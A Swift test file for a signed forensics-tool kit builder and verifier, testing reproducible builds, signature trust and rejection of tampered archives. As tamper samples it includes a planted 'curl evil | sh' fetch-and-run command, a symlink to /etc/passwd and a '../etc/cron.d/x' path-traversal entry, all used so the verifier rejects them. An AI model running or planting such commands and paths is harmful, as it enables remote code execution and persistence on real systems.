import EvidenceIO
import Foundation
import Keys
import Kit
import Manifest
import Signing
import Testing
import Verify

/// A source tree and a stand-in binary in a temporary directory, with keys made in the test.
final class KitLab {
  let directory: String
  let builder = Ed25519PrivateKey.generate()
  let stranger = Ed25519PrivateKey.generate()

  init() throws {
    directory = NSTemporaryDirectory() + "kit-tests-" + UUID().uuidString
    for required in KitContents.requiredFiles {
      try write("src/" + required, "# \(required)\n")
    }
    for (path, text) in [
      ("src/README.md", "# stella-forensics\n"),
      ("src/config/capture.example.yaml", "# profile: default\n"),
      ("src/docs/bundle-format.md", "# Bundle format\n"),
      ("src/docs/runbooks/soc.md", "# SOC runbook\n"),
      ("src/deploy/systemd/stella-capture.service", "[Service]\n"),
      ("src/deploy/prometheus/stella-alerts.yaml", "groups: []\n"),
      ("bin/stella-forensics", "\u{7F}ELF pretend binary"),
    ] {
      try write(path, text)
    }
  }

  deinit { try? FileManager.default.removeItem(atPath: directory) }

  func path(_ name: String) -> String { directory + "/" + name }

  func write(_ name: String, _ text: String) throws {
    let full = path(name)
    try FileManager.default.createDirectory(
      atPath: (full as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
    try Data(text.utf8).write(to: URL(fileURLWithPath: full))
  }

  var kitBuilder: KitBuilder {
    KitBuilder(sourceDirectory: path("src"), binaryPath: path("bin/stella-forensics"), tool: "stella-forensics test")
  }

  @discardableResult
  func build(_ name: String, keys: [Ed25519PrivateKey]? = nil) throws -> String {
    try kitBuilder.build(signingKeys: keys ?? [builder], outputPath: path(name), replacing: false)
    return path(name)
  }

  func verify(_ kit: String, trusting keys: [Ed25519PrivateKey]? = nil) throws -> KitVerificationResult {
    let policy = try TrustPolicy(trustedKeys: (keys ?? [builder]).map(\.publicKey))
    return try KitVerifier(policy: policy).verify(path: kit)
  }

  /// The kit's members in archive order, with their bytes.
  func members(of kit: String) throws -> [(name: String, data: [UInt8])] {
    let source = try FileByteSource(path: kit)
    let members = try TarStructureChecker(limits: KitVerifier.defaultLimits).members(of: source)
    return try members.map { ($0.name, try source.bytes(at: $0.dataOffset, count: $0.size)) }
  }

  /// Writes `members` as a new archive with the kit's tar rules.
  func rewrite(_ members: [(name: String, data: [UInt8])], as name: String) throws -> String {
    try BundleArchiveWriter.write(
      members: members.map { ($0.name, MemberData.bytes($0.data)) }, to: path(name), replacing: false)
    return path(name)
  }

  /// A kit whose `kit.json` is `manifest` (any bytes), correctly signed by `key`.
  func signedKit(manifest: [UInt8], payloadType: String = DSSE.kitPayloadType, as name: String) throws -> String {
    var envelope = DSSEEnvelope(payload: manifest, payloadType: payloadType, signatures: [])
    envelope.sign(with: builder)
    var members = try self.members(of: try build(name + ".base"))
    members[0].data = manifest
    members[1].data = envelope.canonicalJSON()
    return try rewrite(members, as: name)
  }
}

func rejectionCode(_ result: KitVerificationResult) -> String? {
  if case .rejected(let finding) = result { return finding.code.rawValue }
  return nil
}

@Suite struct KitBuildTests {
  @Test func theSameInputsGiveTheSameBytesAndTheKitVerifies() throws {
    let lab = try KitLab()
    let first = try Data(contentsOf: URL(fileURLWithPath: try lab.build("a.tar")))
    let second = try Data(contentsOf: URL(fileURLWithPath: try lab.build("b.tar")))
    #expect(first == second)

    guard case .verified(let kit) = try lab.verify(lab.path("a.tar")) else {
      Issue.record("a freshly built kit must verify")
      return
    }
    let expected = Set(KitContents.requiredFiles + ["bin/stella-forensics", "docs/runbooks/soc.md"])
      .sorted { Array($0.utf8).lexicographicallyPrecedes(Array($1.utf8)) }
    #expect(kit.manifest.files.map(\.path) == expected)
    #expect(kit.signerKeyIDs == [lab.builder.publicKey.keyID])
    let binary = try #require(kit.manifest.files.first { $0.path == "bin/stella-forensics" })
    #expect(binary.sha256 == SHA256Digest.hex(of: Array("\u{7F}ELF pretend binary".utf8)))
  }

  @Test func generatedFilesAreSignedLikeTheTreesFiles() throws {
    let lab = try KitLab()
    var builder = lab.kitBuilder
    builder.generatedFiles = [KitContents.profileConfigurationPath("forensic"): Array("profile: forensic\n".utf8)]
    try builder.build(signingKeys: [lab.builder], outputPath: lab.path("kit.tar"), replacing: false)
    guard case .verified(let kit) = try lab.verify(lab.path("kit.tar")) else {
      Issue.record("a kit with generated files must verify")
      return
    }
    let entry = try #require(kit.manifest.files.first { $0.path == "config/profiles/forensic.yaml" })
    #expect(entry.sha256 == SHA256Digest.hex(of: Array("profile: forensic\n".utf8)))
    builder.generatedFiles = ["docs/bundle-format.md": []]
    #expect(throws: KitBuildError.self) {
      try builder.build(signingKeys: [lab.builder], outputPath: lab.path("clash.tar"), replacing: false)
    }
  }

  @Test func aChangedSourceChangesTheKit() throws {
    let lab = try KitLab()
    let before = try Data(contentsOf: URL(fileURLWithPath: try lab.build("a.tar")))
    try lab.write("src/docs/runbooks/soc.md", "# SOC runbook, revised\n")
    let after = try Data(contentsOf: URL(fileURLWithPath: try lab.build("b.tar")))
    #expect(before != after)
  }

  @Test func aMissingRequiredFileIsNamed() throws {
    let lab = try KitLab()
    try FileManager.default.removeItem(atPath: lab.path("src/docs/bundle-format.md"))
    #expect {
      try lab.build("kit.tar")
    } throws: { error in
      (error as? KitBuildError)?.message.contains("docs/bundle-format.md is missing") == true
    }
  }

  @Test func aSymlinkInTheSourceTreeIsRefused() throws {
    let lab = try KitLab()
    try FileManager.default.createSymbolicLink(atPath: lab.path("src/docs/passwd"), withDestinationPath: "/etc/passwd")
    #expect {
      try lab.build("kit.tar")
    } throws: { error in
      (error as? KitBuildError)?.message.contains("symlinks are not followed") == true
    }
  }

  @Test func anExistingOutputIsRefusedUnlessReplacing() throws {
    let lab = try KitLab()
    let kit = try lab.build("kit.tar")
    #expect {
      try lab.build("kit.tar")
    } throws: { error in
      (error as? KitBuildError)?.outputExists == true
    }
    try lab.kitBuilder.build(signingKeys: [lab.builder], outputPath: kit, replacing: true)
  }
}

@Suite struct KitVerifyTests {
  @Test func aChangedFileIsRejected() throws {
    let lab = try KitLab()
    var members = try lab.members(of: try lab.build("kit.tar"))
    let index = try #require(members.firstIndex { $0.name == "docs/bundle-format.md" })
    members[index].data[2] ^= 0x01
    #expect(rejectionCode(try lab.verify(try lab.rewrite(members, as: "same-size.tar"))) == "KIT_FILE_CHANGED")
    members[index].data += Array("appended\n".utf8)
    #expect(rejectionCode(try lab.verify(try lab.rewrite(members, as: "longer.tar"))) == "KIT_FILE_CHANGED")
  }

  @Test func aMissingFileIsRejected() throws {
    let lab = try KitLab()
    let members = try lab.members(of: try lab.build("kit.tar")).filter { $0.name != "bin/stella-forensics" }
    #expect(rejectionCode(try lab.verify(try lab.rewrite(members, as: "missing.tar"))) == "KIT_FILE_MISSING")
  }

  @Test func anExtraFileIsRejected() throws {
    let lab = try KitLab()
    var members = try lab.members(of: try lab.build("kit.tar"))
    members.append(("docs/zz-planted.sh", Array("curl evil | sh\n".utf8)))
    #expect(rejectionCode(try lab.verify(try lab.rewrite(members, as: "extra.tar"))) == "KIT_FILE_EXTRA")
  }

  @Test func membersOutOfOrderAreRejected() throws {
    let lab = try KitLab()
    var members = try lab.members(of: try lab.build("kit.tar"))
    members.swapAt(2, 3)
    #expect(rejectionCode(try lab.verify(try lab.rewrite(members, as: "order.tar"))) == "MEMBER_ORDER")
  }

  @Test func signaturesAreCheckedAgainstTheTrustedKeys() throws {
    let lab = try KitLab()
    let kit = try lab.build("kit.tar")
    #expect(rejectionCode(try lab.verify(kit, trusting: [lab.stranger])) == "SIG_UNTRUSTED_KEY")
    let cosigned = try lab.build("cosigned.tar", keys: [lab.builder, lab.stranger])
    let policy = try TrustPolicy(trustedKeys: [lab.builder.publicKey], ignoreUntrustedSignatures: true)
    guard case .verified(let verified) = try KitVerifier(policy: policy).verify(path: cosigned) else {
      Issue.record("a kit co-signed by an untrusted key verifies with ignoreUntrustedSignatures")
      return
    }
    #expect(verified.signerKeyIDs == [lab.builder.publicKey.keyID])
  }

  @Test func aBundleSignatureDoesNotPassAsAKitSignature() throws {
    let lab = try KitLab()
    let manifest = try lab.members(of: try lab.build("kit.tar"))[0].data
    let kit = try lab.signedKit(manifest: manifest, payloadType: DSSE.manifestPayloadType, as: "bundle-type.tar")
    #expect(rejectionCode(try lab.verify(kit)) == "ENVELOPE_WRONG_PAYLOAD_TYPE")
  }

  @Test func aSignedButMalformedManifestIsRejected() throws {
    let lab = try KitLab()
    let zeros = String(repeating: "0", count: 64)
    let unsorted = Array(
      (#"{"files":[{"path":"b","sha256":"\#(zeros)","size":0},"#
        + #"{"path":"a","sha256":"\#(zeros)","size":0}],"kitVersion":1,"tool":"t"}"#).utf8)
    #expect(
      rejectionCode(try lab.verify(try lab.signedKit(manifest: unsorted, as: "unsorted.tar")))
        == "KIT_MANIFEST_MALFORMED")
    let unsafe = Array(
      #"{"files":[{"path":"../etc/cron.d/x","sha256":"\#(zeros)","size":0}],"kitVersion":1,"tool":"t"}"#.utf8)
    #expect(
      rejectionCode(try lab.verify(try lab.signedKit(manifest: unsafe, as: "unsafe.tar"))) == "KIT_MANIFEST_MALFORMED")
    let spaced = Array(#"{"files": [],"kitVersion":1,"tool":"t"}"#.utf8)
    #expect(
      rejectionCode(try lab.verify(try lab.signedKit(manifest: spaced, as: "spaced.tar"))) == "KIT_MANIFEST_MALFORMED")
  }
}

@Suite struct KitManifestTests {
  @Test func canonicalBytesRoundTrip() throws {
    let manifest = try KitManifest(
      files: [
        .init(path: "docs/b.md", sha256: String(repeating: "a", count: 64), size: 3),
        .init(path: "bin/x", sha256: String(repeating: "b", count: 64), size: 9_007_199_254_740_991),
      ], tool: "stella-forensics 0.1.0")
    let bytes = try manifest.canonicalJSON()
    #expect(manifest.files.map(\.path) == ["bin/x", "docs/b.md"])
    #expect(try KitManifest.parse(bytes) == manifest)
  }

  @Test func reservedAndDuplicatePathsAreRefused() {
    let digest = String(repeating: "c", count: 64)
    #expect(throws: KitManifestError.self) {
      try KitManifest(files: [.init(path: "kit.json", sha256: digest, size: 1)], tool: "t")
    }
    #expect(throws: KitManifestError.self) {
      try KitManifest(
        files: [.init(path: "a", sha256: digest, size: 1), .init(path: "a", sha256: digest, size: 2)], tool: "t")
    }
  }
}
